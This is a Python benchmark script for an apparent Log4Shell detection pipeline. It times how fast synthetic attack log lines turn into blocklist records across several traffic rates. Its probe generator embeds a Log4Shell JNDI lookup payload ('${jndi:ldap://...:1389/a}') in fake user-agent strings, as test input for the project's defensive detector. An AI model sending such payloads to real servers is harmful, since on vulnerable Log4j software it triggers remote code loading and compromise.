"""End-to-end latency: a raw attack line produced → its blocklist record readable.

Usage: .venv/bin/python bench/bench_latency.py [--rates 5000,20000,50000] [--seconds 30]

Runs the real workers (``l4s detect`` and ``l4s enrich``) on the local stack. For
each rate, a producer thread sends benign Apache lines at that rate while a probe
thread sends, every 200 ms, an attack line from a fresh source address; a
consumer thread reads the blocklist topic and notes when each probe's record
arrives. Reports p50/p95/p99 per rate and whether the rate was sustained (the
detect worker's line counter caught up within 5 s of the end). Blocking is set
to level Low so that one attack is enough to publish.
"""

from __future__ import annotations

import argparse
import os
import signal
import statistics
import threading
import time
from typing import Any

import redis
from confluent_kafka import OFFSET_END, Consumer, Producer, TopicPartition

from bench.common import DEMO, emit, l4s, namespace_env, stack_env
from pipeline import config
from pipeline.kafka_io import create_topics

PROBE_EVERY = 0.2


def percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(q * (len(ordered) - 1)))]


class Run:
    def __init__(self, env: dict[str, str], settings: config.Settings) -> None:
        self.env = env
        self.settings = settings
        self.sent: dict[str, float] = {}
        self.arrived: dict[str, float] = {}
        self.produced = 0
        self.stop = threading.Event()
        self.benign = (DEMO / "apache_logs").read_bytes().splitlines()
        self.probe_counter = 0

    def follow_blocklist(self) -> None:
        consumer = Consumer(
            {"bootstrap.servers": self.settings.kafka.bootstrap, "group.id": f"lat-{os.getpid()}"}
        )
        topic = self.settings.topics.blocklist
        partitions = consumer.list_topics(topic, timeout=10).topics[topic].partitions
        consumer.assign([TopicPartition(topic, p, OFFSET_END) for p in partitions])
        while not self.stop.is_set():
            message = consumer.poll(0.05)
            if message is None or message.error() is not None or message.value() is None:
                continue
            key = message.key().decode()
            if key in self.sent and key not in self.arrived:
                self.arrived[key] = time.time()
        consumer.close()

    def probe_line(self) -> tuple[str, bytes]:
        self.probe_counter += 1
        n = self.probe_counter
        ip = f"11.{(n >> 16) & 255}.{(n >> 8) & 255}.{n & 255 or 1}"
        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
        line = f'{ip} - - [{stamp}] "GET / HTTP/1.1" 200 5 "-" "${{jndi:ldap://{ip}:1389/a}}"'
        return ip, line.encode()

    def produce(self, rate: int, seconds: float, measure: bool) -> None:
        producer = Producer({"bootstrap.servers": self.settings.kafka.bootstrap, "linger.ms": 5})
        topic = self.settings.topics.input
        start = time.perf_counter()
        next_probe = start
        sent = 0
        i = 0
        while (now := time.perf_counter()) - start < seconds:
            due = int((now - start) * rate)
            while sent < due:
                try:
                    producer.produce(topic, self.benign[i % len(self.benign)])
                except BufferError:
                    producer.poll(0.01)
                    continue
                sent += 1
                i += 1
            if measure and now >= next_probe:
                ip, line = self.probe_line()
                producer.produce(topic, line)
                producer.poll(0)
                self.sent[ip] = time.time()
                next_probe += PROBE_EVERY
                sent += 1
            producer.poll(0)
            time.sleep(0.002)
        producer.flush(30)
        self.produced += sent


def wait_for_lines(client: redis.Redis, prefix: str, expected: int, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if int(client.hget(f"{prefix}:totals", "lines") or 0) >= expected:
            return True
        time.sleep(0.1)
    return False


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rates", default="5000,20000,50000")
    parser.add_argument("--seconds", type=float, default=30.0)
    args = parser.parse_args()
    env = namespace_env(stack_env(), 4)
    env["L4S_BLOCKLIST__MIN_LEVEL"] = "Low"
    os.environ.update({k: v for k, v in env.items() if k.startswith("L4S_")})
    settings = config.load()
    create_topics(settings)
    client = redis.Redis.from_url(settings.redis.url)
    enrich = l4s(env, "enrich")
    detect = l4s(env, "detect")
    run = Run(env, settings)
    follower = threading.Thread(target=run.follow_blocklist, daemon=True)
    follower.start()
    results: list[dict[str, Any]] = []
    try:
        # Warm up until a probe makes it through both workers.
        deadline = time.monotonic() + 120
        while not run.arrived and time.monotonic() < deadline:
            run.produce(100, 2.0, measure=True)
        if not run.arrived:
            raise SystemExit("no probe reached the blocklist within 2 minutes")
        for rate in [int(r) for r in args.rates.split(",")]:
            run.sent.clear()
            run.arrived.clear()
            run.produce(rate, args.seconds, measure=True)
            sustained = wait_for_lines(client, settings.redis.prefix, run.produced, 5.0)
            time.sleep(2.0)
            latencies = [run.arrived[ip] - t for ip, t in run.sent.items() if ip in run.arrived]
            result = {
                "rate_lines_per_s": rate,
                "probes": len(run.sent),
                "probes_arrived": len(latencies),
                "sustained": sustained,
            }
            if latencies:
                result.update(
                    p50_s=round(statistics.median(latencies), 3),
                    p95_s=round(percentile(latencies, 0.95), 3),
                    p99_s=round(percentile(latencies, 0.99), 3),
                    max_s=round(max(latencies), 3),
                )
            results.append(result)
            if not sustained:
                break
    finally:
        run.stop.set()
        for worker in (detect, enrich):
            worker.send_signal(signal.SIGTERM)
            worker.wait(timeout=60)
    best = max((r for r in results if r["sustained"]), key=lambda r: r["rate_lines_per_s"], default=None)
    emit(
        "latency",
        {
            "seconds_per_rate": args.seconds,
            "probe_every_s": PROBE_EVERY,
            "highest_sustained_rate": best["rate_lines_per_s"] if best else None,
            "p99_at_highest_sustained_s": best.get("p99_s") if best else None,
            "rates": results,
        },
    )


if __name__ == "__main__":
    main()
